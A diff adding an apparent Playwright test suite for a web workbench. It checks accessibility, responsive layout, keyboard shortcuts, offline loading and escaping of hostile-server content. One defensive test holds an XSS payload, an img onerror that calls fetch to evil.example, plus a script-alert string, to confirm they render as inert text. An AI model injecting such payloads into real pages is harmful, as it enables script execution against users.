@@ -1,0 +1,248 @@
+import { createRequire } from 'node:module';
+import type { Page } from 'playwright-core';
+import { describe, expect, test } from 'vitest';
+import { useWorkbench } from './fixture.ts';
+import { goTo, openPage } from './workbench.ts';
+
+const axe = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
+const fixture = useWorkbench({ servers: ['forms', 'hostile'] });
+
+const screens: readonly (readonly [name: string, ...of: string[]])[] = [
+  ['servers'],
+  ['servers', 'forms'],
+  ['tools'],
+  ['tools', 'forms', 'order'],
+  ['resources', 'forms', 'note://a'],
+  ['prompts'],
+  ['tasks'],
+  ['apps'],
+  ['skills'],
+  ['sign-in'],
+  ['policy'],
+  ['catalogue'],
+  ['chat'],
+  ['compare', 'forms', 'echo'],
+  ['travel'],
+  ['timeline'],
+  ['timeline', '1'],
+];
+
+/** Rules of WCAG 2 A and AA that are broken. */
+async function violations(page: Page): Promise<string[]> {
+  // The policy of the page allows no inline script; a devtools evaluation is not one.
+  const source = await import('node:fs/promises').then(({ readFile }) => readFile(axe, 'utf8'));
+  await page.evaluate(source);
+  return await page.evaluate(async () => {
+    const run = (
+      globalThis as unknown as {
+        axe: {
+          run(
+            options: object,
+          ): Promise<{ violations: { id: string; nodes: { target: string[]; failureSummary: string }[] }[] }>;
+        };
+      }
+    ).axe;
+    const found = await run.run({
+      runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa'] },
+    });
+    return found.violations.flatMap(({ id, nodes }) =>
+      nodes.map(({ target, failureSummary }) => `${id}: ${target.join(' ')} ${failureSummary}`),
+    );
+  });
+}
+
+// acceptance 35
+describe.each(['light', 'dark'] as const)('accessibility in the %s theme', (theme) => {
+  test.each(screens)(`axe finds nothing at A and AA on the screen %s %s %s (${theme})`, async (...of) => {
+    const { page } = fixture;
+    await page.emulateMedia({ colorScheme: theme, reducedMotion: 'reduce' });
+    await goTo(page, ...of.filter((part) => part !== undefined));
+    await page.waitForTimeout(250);
+    expect(await page.locator('h1').count()).toBe(1);
+    expect(await violations(page)).toEqual([]);
+  });
+});
+
+// acceptance 35
+test('axe finds nothing in the palette, the help and the window for a new server', async () => {
+  const { page } = fixture;
+  for (const open of ['Control+k', '?']) {
+    await goTo(page, 'tools');
+    await page.keyboard.press(open);
+    await page.getByRole('dialog').waitFor();
+    expect(await violations(page)).toEqual([]);
+    await page.keyboard.press('Escape');
+    await page.getByRole('dialog').waitFor({ state: 'detached' });
+  }
+  await page.getByRole('button', { name: 'Add a server' }).click();
+  expect(await violations(page)).toEqual([]);
+  await page.keyboard.press('Escape');
+});
+
+// acceptance 35
+test('reduced motion is honored', async () => {
+  const { page } = fixture;
+  await page.emulateMedia({ reducedMotion: 'reduce' });
+  const moving = await page.evaluate(
+    () => document.getAnimations().filter((one) => one.playState === 'running').length,
+  );
+  expect(moving).toBe(0);
+});
+
+// acceptance 36, and 35 for 640 px, which is 200 % zoom of 1280
+test.each([
+  [800, 700],
+  [640, 400],
+])('at %i by %i pixels nothing is wider than the window, and every control can be reached', async (width, height) => {
+  const { page } = fixture;
+  await page.setViewportSize({ width, height });
+  for (const of of screens) {
+    await goTo(page, ...of);
+    await page.waitForTimeout(150);
+    const sideways = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
+    expect(`${of.join('/')} ${sideways}`).toBe(`${of.join('/')} ${Math.min(0, sideways)}`);
+    const lost = await page.evaluate(() =>
+      [...document.querySelectorAll<HTMLElement>('main :is(button, input, select, textarea, a)')]
+        .filter(
+          (element) =>
+            element.checkVisibility({ visibilityProperty: true, opacityProperty: false }) &&
+            !element.closest('[popover]'),
+        )
+        .filter((element) => {
+          element.scrollIntoView({ block: 'center', inline: 'center' });
+          const box = element.getBoundingClientRect();
+          return box.width > 0 && (box.right < 1 || box.left > innerWidth - 1);
+        })
+        .map((element) => element.outerHTML.slice(0, 120)),
+    );
+    expect(lost).toEqual([]);
+  }
+  await page.setViewportSize({ width: 1280, height: 800 });
+});
+
+// acceptance 34
+describe('the keyboard', () => {
+  test('letters after g open screens, j and k move, Enter opens, / filters, c calls, y copies', async () => {
+    const { page } = fixture;
+    await goTo(page, 'timeline');
+    await page.locator('h1').waitFor();
+    await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
+    await page.keyboard.press('g');
+    await page.keyboard.press('t');
+    await page.locator('[data-screen="tools"]').waitFor();
+    await page.keyboard.press('/');
+    await page.keyboard.type('echo');
+    await page.keyboard.press('Escape');
+    await page.keyboard.press('j');
+    await page.keyboard.press('Enter');
+    await page.getByRole('heading', { level: 1, name: 'forms.echo' }).waitFor();
+    await page.keyboard.press('c');
+    await page.locator('.card.result').waitFor();
+    await page.keyboard.press('y');
+    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain('mooring call');
+    await page.keyboard.press('.');
+    await page.getByText('Paused', { exact: true }).waitFor();
+    await page.keyboard.press('.');
+    await page.keyboard.press('g');
+    await page.keyboard.press('l');
+    await page.locator('[data-screen="timeline"]').waitFor();
+  });
+
+  test('the palette finds a tool, a screen, a server and a command by name, and runs it', async () => {
+    const { page } = fixture;
+    for (const [words, screen] of [
+      ['forms.pay', 'tools'],
+      ['catalogue', 'catalogue'],
+      ['@hostile', 'servers'],
+    ] as const) {
+      await page.keyboard.press('Control+k');
+      await page.getByRole('combobox', { name: 'Search or run a command' }).fill(words);
+      await page.keyboard.press('Enter');
+      await page.locator(`[data-screen="${screen}"]`).waitFor();
+    }
+    await page.keyboard.press('Control+k');
+    await page.getByRole('combobox', { name: 'Search or run a command' }).fill('>keyboard');
+    await page.keyboard.press('Enter');
+    await page.getByRole('dialog', { name: 'Keyboard' }).waitFor();
+    await page.keyboard.press('Escape');
+    await page.getByRole('dialog').waitFor({ state: 'detached' });
+  });
+
+  test('every control that can be focused shows that it is', async () => {
+    const { page } = fixture;
+    await goTo(page, 'tools', 'forms', 'pay');
+    await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
+    const unseen: string[] = [];
+    for (let step = 0; step < 60; step++) {
+      await page.keyboard.press('Tab');
+      const missing = await page.evaluate(() => {
+        const element = document.activeElement;
+        if (element === null || element === document.body) return undefined;
+        const { outlineStyle, outlineWidth } = getComputedStyle(element);
+        return outlineStyle === 'none' || outlineWidth === '0px' ? element.outerHTML.slice(0, 100) : undefined;
+      });
+      if (missing !== undefined) unseen.push(missing);
+    }
+    expect(unseen).toEqual([]);
+  });
+});
+
+// acceptance 7
+test('names, descriptions, results, resources, log lines and errors of a hostile server are text on every screen', async () => {
+  const { page } = fixture;
+  const attack = '<img src=x onerror="document.title=1;fetch(\'https://evil.example/\')">';
+  await goTo(page, 'tools', 'hostile', attack);
+  await page.locator('.head .lead', { hasText: '<script>alert(1)</script>' }).waitFor();
+  await page.getByRole('button', { name: /^Call/ }).first().click();
+  await page.locator('.card.result').waitFor();
+  expect(await page.locator('.card.result').textContent()).toContain('<script>alert(1)</script>');
+  await goTo(page, 'tools', 'hostile', 'fails');
+  await page.getByRole('button', { name: /^Call/ }).first().click();
+  await page.locator('.card.result[data-state="failed"]').waitFor();
+  for (const of of [
+    ['servers', 'hostile'],
+    ['resources'],
+    ['prompts'],
+    ['timeline'],
+    ['policy'],
+    ['catalogue'],
+    ['chat'],
+    ['compare', 'hostile', attack],
+  ]) {
+    await goTo(page, ...of);
+    await page.waitForTimeout(200);
+    expect(await page.locator('#page script, #page img[src="x"], #page [onerror]').count()).toBe(0);
+  }
+  await goTo(page, 'resources');
+  await page.locator('.rows a', { hasText: 'onerror' }).first().click();
+  await page.getByRole('button', { name: /^Read/ }).click();
+  await page.locator('.card.result').waitFor();
+  expect(await page.locator('.card.result').textContent()).toContain('<script>alert(1)</script>');
+  expect(fixture.complaints).toEqual([]);
+  expect(await page.title()).not.toBe('1');
+});
+
+// acceptance 36
+test('the page is whole without a network: nothing but its own three files is loaded', async () => {
+  const { page, complaints } = fixture;
+  const loaded = await page.evaluate(() =>
+    performance.getEntriesByType('resource').map(({ name }) => new URL(name).pathname),
+  );
+  expect(
+    [...new Set(loaded)].filter((path) => !/^\/(?:page\.js|page\.css|rpc|events|start|blob\/.*)$/.test(path)),
+  ).toEqual([]);
+  expect(complaints).toEqual([]);
+});
+
+test('a second page of its own works the same', async () => {
+  const { page, browser } = fixture;
+  await page.keyboard.press('Control+k');
+  await page.getByRole('combobox', { name: 'Search or run a command' }).fill('>copy a url');
+  await page.keyboard.press('Enter');
+  await page.getByText('in the clipboard').waitFor();
+  const url = await page.evaluate(() => navigator.clipboard.readText());
+  const second = await openPage(browser, url);
+  await second.page.locator('.sidebar [data-server="forms"]').waitFor();
+  expect(second.complaints).toEqual([]);
+  await second.context.close();
+});
